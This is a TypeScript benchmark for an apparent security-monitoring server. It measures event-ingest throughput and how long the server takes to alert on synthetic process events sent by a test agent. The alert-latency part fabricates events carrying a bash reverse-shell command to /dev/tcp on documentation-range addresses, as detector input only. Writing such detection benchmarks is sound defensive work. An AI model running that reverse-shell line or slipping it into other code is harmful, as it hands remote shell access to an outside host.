/**
 * Events through the whole server: one agent over mutual TLS, archive on disk, all shipped models, SQLite.
 * `tools/node test/bench/ingest/ingest.bench.ts [events [events per batch]]`. Also the time from sending an event to its live update.
 */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startServer } from '../../../apps/server/src/index.ts'
import { enrolAgent, TestAgent } from '../../../apps/server/src/testing/test-agent.ts'
import { TestConsole } from '../../../apps/server/src/testing/test-console.ts'

const total = Number(process.argv[2] ?? 100_000)
const perBatch = Number(process.argv[3] ?? 500)
const acts = 200
const directory = mkdtempSync(join(tmpdir(), 'rampart-bench-ingest-'))
const server = await startServer({
  stateDirectory: join(directory, 'state'),
  listen: '127.0.0.1:0',
  agentListen: '127.0.0.1:0',
  log: 'none',
})
if (!server.ok) throw new Error(server.error.message)
const agent = new TestAgent(await enrolAgent(server.createEnrolmentToken().token))
await agent.connect()

const commands = [
  'ls -l /var/log',
  'grep -r listen /etc/nginx',
  'cat /proc/loadavg',
  'sed -n 1,5p notes.txt',
  'node build.js --fast',
]
const batches: Record<string, unknown>[][] = []
for (let start = 0; start < total; start += perBatch)
  batches.push(
    Array.from({ length: Math.min(perBatch, total - start) }, (_, index) =>
      agent.started(start + index + 1, `${commands[index % commands.length]} ${start + index}`),
    ),
  )
const from = performance.now()
const cpu = process.cpuUsage()
for (const [index, events] of batches.entries()) {
  agent.sendBatch(index + 1, events)
  await agent.until(() => agent.acknowledged > index - 8, 60_000)
}
await agent.until(() => agent.acknowledged === batches.length, 60_000)
const seconds = (performance.now() - from) / 1000
const used = process.cpuUsage(cpu)
console.log(
  `${total} events in batches of ${perBatch}: ${Math.round(total / seconds)} events/s, ${Math.round((used.user + used.system) / total)} µs of processor time each (sender included)`,
)

const browser = new TestConsole(server.consoleUrl)
if (!server.firstUser) throw new Error('no first user')
await browser.begin(server.firstUser)
const waiting = new Map<string, (at: number) => void>()
const stream = await browser.stream((name, data) => {
  if (!name.startsWith('alert.')) return
  const { entity, title } = data as { entity: { value: string }; title: string }
  for (const [key, resolve] of waiting)
    if (entity.value.includes(key) || title.includes(key)) resolve(performance.now())
})
const times: number[] = []
for (let act = 1; act <= acts; act++) {
  const key = `/tmp/act-${act}/bash`
  const event = agent.started(total + act, `bash -i >& /dev/tcp/198.51.100.${act}/4444 0>&1`, 5000 + act)
  ;(event.process as { executable: string }).executable = key
  const seen = new Promise<number>((resolve) => waiting.set(key, resolve))
  const sent = performance.now()
  agent.sendBatch(batches.length + act, [event])
  times.push((await seen) - sent)
  waiting.delete(key)
}
times.sort((one, other) => one - other)
const at = (part: number) => times[Math.floor(times.length * part)]?.toFixed(1)
console.log(`${acts} acts, from sending the event to the live update: p50 ${at(0.5)} ms, p99 ${at(0.99)} ms`)
console.log(`RSS ${Math.round(process.memoryUsage().rss / 1048576)} MB, ${server.models.loaded} models`)
await stream.stop()
agent.cut()
await server.stop()
rmSync(directory, { recursive: true })
